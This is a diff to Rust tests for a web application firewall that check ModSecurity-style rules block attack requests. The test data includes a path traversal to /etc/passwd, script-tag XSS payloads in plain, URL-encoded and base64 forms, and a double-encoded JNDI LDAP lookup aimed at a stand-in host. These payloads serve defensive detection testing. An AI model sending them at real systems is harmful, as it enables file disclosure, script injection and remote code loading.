@@ -17,7 +17,7 @@ fn run(operator: &str, transforms: &str, query: &str) -> (bool, String, String) 
     let e = engine(&format!(
         "SecRule ARGS|ARGS_NAMES \"@{operator}\" \"id:100,phase:1,deny,status:403,capture,{transforms}msg:'%{{TX.1}}',logdata:'%{{TX.0}}'\""
     ));
-    let (iv, tx) = get(&e, query, &[]);
+    let (iv, mut tx) = get(&e, query, &[]);
     let m = tx.matches().first().map(|m| (m.msg.clone(), m.data.clone())).unwrap_or_default();
     (iv.is_some_and(|i| i.status == 403), m.0, m.1)
 }
@@ -130,7 +130,7 @@ fn a_detector_rule_is_skipped_whole_only_when_no_value_may_fire() {
     assert!(iv.is_none());
     assert_eq!(tx.stats().detector_list_skips, 1, "{:?}", tx.stats());
     for attack in ["/?f=..%2F..%2Fetc%2Fpasswd&a=hello&b=42", "/?a=hello&b=42&c=plain&f=..%2F..%2Fetc%2Fpasswd"] {
-        let (iv, tx) = get(&e, attack, &[]);
+        let (iv, mut tx) = get(&e, attack, &[]);
         assert_eq!(iv.map(|i| i.status), Some(403), "{attack}");
         assert_eq!(tx.stats().detector_list_skips, 0);
         assert_eq!(tx.matches().first().map(|m| m.data.as_str()), Some("ARGS:f"), "{attack}");
@@ -164,27 +164,27 @@ fn detector_families_decide_each_class_once_per_list() {
     );
     let e = engine(&rules);
     let ua = [("User-Agent", "anchor-bench/1.0")];
-    let fired = |tx: &portcullis_waf::Transaction| {
+    let fired = |tx: &mut portcullis_waf::Transaction| {
         tx.matches().iter().map(|m| format!("{} {}", m.id, m.data)).collect::<Vec<_>>().join(", ")
     };
     // plain values: SQLi, XSS and command injection may fire on a User-Agent (spaces, `/`, `(`), SSTI and
     // JNDI on no value: two rules skipped whole
-    let (_, tx) = get(&e, "/?a=hello&b=42&c=plain", &ua);
-    assert_eq!(fired(&tx), "");
+    let (_, mut tx) = get(&e, "/?a=hello&b=42&c=plain", &ua);
+    assert_eq!(fired(&mut tx), "");
     assert_eq!(tx.stats().detector_list_skips, 2, "{:?}", tx.stats());
     // the attack only in a form: base64 of `<script>alert(1)</script>`, double URL encoding of a JNDI lookup
-    let (_, tx) = get(
+    let (_, mut tx) = get(
         &e,
         "/?a=hello&x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D&b=42&j=%2524%257Bjndi%253Aldap%253A%252F%252Fe.example%252Fa%257D",
         &ua,
     );
-    assert_eq!(fired(&tx), "2 ARGS:x, 5 ARGS:j");
+    assert_eq!(fired(&mut tx), "2 ARGS:x, 5 ARGS:j");
     // a rule with a ctl target removal reads its own list, and still finds what is left in it
     let e = engine(&format!(
         "{rules}\nSecRule REQUEST_FILENAME \"@streq /t\" \"id:10,phase:1,pass,nolog,ctl:ruleRemoveTargetById=2;ARGS:x\""
     ));
-    let (_, tx) = get(&e, "/t?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E&y=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
-    assert_eq!(fired(&tx), "2 ARGS:y");
-    let (_, tx) = get(&e, "/u?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
-    assert_eq!(fired(&tx), "2 ARGS:x");
+    let (_, mut tx) = get(&e, "/t?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E&y=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
+    assert_eq!(fired(&mut tx), "2 ARGS:y");
+    let (_, mut tx) = get(&e, "/u?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
+    assert_eq!(fired(&mut tx), "2 ARGS:x");
 }
